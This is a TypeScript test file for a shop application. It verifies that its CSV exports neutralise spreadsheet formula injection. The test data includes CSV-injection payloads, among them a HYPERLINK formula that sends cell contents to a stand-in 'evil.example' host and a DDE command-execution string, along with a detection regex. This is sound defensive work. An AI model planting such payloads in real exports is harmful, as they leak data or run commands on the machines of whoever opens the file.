import { globSync, readFileSync } from 'node:fs'
import { parse } from 'csv-parse/sync'
import { sql } from 'drizzle-orm'
import { RouterContextProvider } from 'react-router'
import { beforeAll, describe, expect, it } from 'vitest'
import type { Actor } from '#core/context.ts'
import { csvLine, plainCell } from '#domain/csv.ts'
import { requestPayout } from '#features/affiliates/wallet/request-payout.ts'
import * as customersFile from '#web/admin/customers/customers-file.ts'
import * as productFile from '#web/admin/products/export-file.ts'
import * as templateFile from '#web/admin/products/template-file.ts'
import * as statementFile from '#web/affiliate/statement-file.ts'
import routes from '#web/routes.ts'
import { shopContext } from '#web/shop-context.ts'
import type { ApiDocument } from '../../proof/generated/api-document.ts'
import { affiliate, boss, earn } from '../../test/affiliates.ts'
import { useApp } from '../../test/app.ts'
import { contextOn, placed, putOnShelf } from '../../test/checkout.ts'
import { payoutDetails } from '../../test/payout-scene.ts'
import type { Person } from '../../test/people.ts'
import { recordPromise } from '../../test/promises.ts'

/** What spreadsheets run or cut apart, as a text that somebody typed (promises §4 E47). */
const formulas = [
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-5',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''-1",
  '"=1+1","=2+2"',
  '",=1+1',
  'a\r\n=1+1',
  'a,=1+1',
]
/** How a cell begins that a spreadsheet runs. */
const runs = /^[=+\-@\t\r\n＝＋－＠]/

const app = useApp()
let admin: Person
let someone: Person & { code: string }

beforeAll(async () => {
  app.routes()
  admin = await boss(app.database)
  someone = await affiliate(app.database)
})

interface CsvFile {
  /** Rows whose texts are the formulas. */
  arrange: () => Promise<unknown>
  read: () => Promise<string>
  /** The columns that a person's texts come into. */
  texts: string[]
  /** The columns of amounts and counts. */
  numbers: string[]
}

/** A file of a page, as its route answers; `pattern` is that of the route. */
async function loaded(pattern: string, loader: (args: never) => unknown, actor: () => Actor) {
  const context = new RouterContextProvider()
  const ctx = contextOn(app.database, { actor: { ...actor(), sessionId: 'this one' } })
  context.set(shopContext, { ctx, shop: ctx.services.shop, failed: () => {}, nonce: '' })
  const url = new URL('http://localhost/')
  const response = (await loader({ request: new Request(url), url, pattern, params: {}, context } as never)) as Response
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w-]+\.csv"$/)
  // Decoded by hand: `text` would take off the mark that makes spreadsheets read UTF-8.
  return Buffer.from(await response.arrayBuffer()).toString()
}

/** Every file of this kind that the shop gives out: an address of a page, or a call of the API whose answer holds one. */
const files: Record<string, CsvFile> = {
  'admin/customers/export.csv': {
    arrange: async () => {
      const shoe = await putOnShelf(app.database, { sizes: { '40': 50 } })
      for (const text of formulas) {
        const { id } = await placed(contextOn(app.database), shoe)
        await app.database.ownerDb.execute(sql`update orders set customer_name = ${text}, customer_email = ${text} where id = ${id}`)
        await app.database.ownerDb.execute(
          sql`update customers set note = ${text} where phone = (select customer_phone from orders where id = ${id})`,
        )
      }
    },
    read: () => loaded('admin/customers/export.csv', customersFile.loader as never, () => admin),
    texts: ['Name', 'E-mail', 'Note'],
    numbers: ['Orders', 'Paid', 'Returns'],
  },
  'admin/products/export.csv': {
    arrange: async () => {
      const { id } = await putOnShelf(app.database, { sizes: { One: 1 } })
      for (const text of formulas)
        await app.database.ownerDb.execute(sql`
          insert into products (name, price, style_code, description) select ${text}, price, ${text}, ${text} from products where id = ${id}`)
      await putOnShelf(app.database, {
        sizes: Object.fromEntries(formulas.filter((text) => text.length <= 20).map((text, at) => [text, at])),
      })
    },
    read: () => loaded('admin/products/export.csv', productFile.loader as never, () => admin),
    texts: ['name', 'style_code', 'description'],
    numbers: ['price', 'discount_percentage', 'stock'],
  },
  'admin/products/template.csv': {
    arrange: async () => {},
    read: () => loaded('admin/products/template.csv', templateFile.loader as never, () => admin),
    texts: [],
    numbers: ['price'],
  },
  'affiliate/wallet/statement.csv': {
    arrange: async () => {
      await earn(app.database, someone, 300)
      await requestPayout(contextOn(app.database, { actor: someone }), { amount: 20, ...payoutDetails })
      for (const text of formulas)
        await app.database.ownerDb.execute(sql`select write_wallet_entry(${someone.userId}, null, 'debt carried over', ${text}, 0, null, null)`)
    },
    read: () => loaded('affiliate/wallet/statement.csv', statementFile.loader as never, () => someone),
    texts: ['Details'],
    numbers: ['KSh', 'Balance'],
  },
  'POST /api/functions/export-payouts': {
    arrange: async () => {
      for (const text of formulas) {
        const who = await affiliate(app.database)
        await earn(app.database, who, 20)
        const { id } = await requestPayout(contextOn(app.database, { actor: who }), { amount: 20, ...payoutDetails })
        await app.database.ownerDb.execute(sql`update affiliate_payouts set mpesa_full_name = ${text} where id = ${id}`)
      }
    },
    read: async () => (await app.ask('POST', '/api/functions/export-payouts', { body: {}, headers: admin.headers })).body.csv,
    texts: ['Name'],
    numbers: ['KSh'],
  },
}

describe('every file for spreadsheets', () => {
  it.each(Object.entries(files))('%s runs nothing, and is read back as it was typed', async (_, { arrange, read, texts, numbers }) => {
    await arrange()
    const text = await read()
    expect(text.startsWith('\uFEFF')).toBe(true)
    const rows: Record<string, string>[] = parse(text, { bom: true, columns: true, skip_empty_lines: false })
    expect(rows.length).toBeGreaterThan(0)
    // A cell that is quoted where it need not be would still be read: it is the shop's own writer that made every line.
    const lines: string[][] = parse(text, { bom: true })
    const isNumber = lines[0]?.map((name) => numbers.includes(name)) as boolean[]
    expect(isNumber.filter(Boolean)).toHaveLength(numbers.length)
    for (const line of lines.slice(1))
      for (const [at, cell] of line.entries())
        if (isNumber[at]) expect(cell).toMatch(/^(-?\d+(\.\d+)?)?$/)
        else expect(cell).not.toMatch(runs)
    expect(
      `\uFEFF${lines.map((line) => csvLine(line.map((cell, at) => (isNumber[at] && cell !== '' && line !== lines[0] ? Number(cell) : plainCell(cell))))).join('')}`,
    ).toBe(text)
    for (const column of texts) expect(rows.map((row) => plainCell(row[column] as string))).toEqual(expect.arrayContaining(formulas))
  })

  it('keeps a negative amount a number', async () => {
    expect(await files['affiliate/wallet/statement.csv']?.read()).toMatch(/,payout requested,[^\r\n]*,-20,/)
  })

  it('stands in the table of this test', async () => {
    const pages = paths(routes).filter((path) => path.endsWith('.csv'))
    const { paths: calls }: ApiDocument = (await app.ask('GET', '/api/openapi.json')).body
    const answers = Object.entries(calls).flatMap(([path, item]) =>
      Object.entries(item)
        .filter(([, { responses }]) => /"csv":|text\/csv/.test(JSON.stringify(responses)))
        .map(([method]) => `${method.toUpperCase()} ${path}`),
    )
    expect([...pages, ...answers].sort()).toEqual(Object.keys(files).sort())
    // Nor is one written anywhere else, or by other means.
    const sources = globSync('src/**/*.{ts,tsx}').filter((file) => !/\.test\.tsx?$/.test(file))
    const having = (pattern: RegExp) => sources.filter((file) => pattern.test(readFileSync(file, 'utf8'))).sort()
    expect(having(/\bcsvLine\b.*from/)).toEqual([
      'src/features/affiliates/wallet/export-batch.ts',
      'src/features/affiliates/wallet/get-statement.ts',
      'src/features/catalogue/product-file.ts',
      'src/features/customers/customers.ts',
    ])
    expect(having(/['"`]text\/(csv|tab-separated-values);|vnd\.ms-excel|spreadsheetml/)).toEqual([
      'src/web/admin/panel-requests.ts',
      'src/web/admin/payouts/payout-forms.tsx',
      'src/web/affiliate/statement-file.ts',
    ])
    const fields = Object.values(files).reduce((sum, { texts }) => sum + texts.length, 0)
    recordPromise({
      promise: 'A file for spreadsheets runs nothing that somebody typed',
      command: 'npm test -- src/server/csv-files.test.ts',
      figure: `${Object.keys(files).length} files, ${fields} columns of typed text × ${formulas.length} formulas: none begins a cell, all are read back as typed`,
    })
  })
})

interface Route {
  path?: string
  children?: Route[]
}
/** The paths of the pages, from the first on. */
function paths(all: Route[], above = ''): string[] {
  return all.flatMap(({ path, children = [] }) => {
    const whole = [above, path].filter(Boolean).join('/')
    return [...(path ? [whole] : []), ...paths(children, whole)]
  })
}
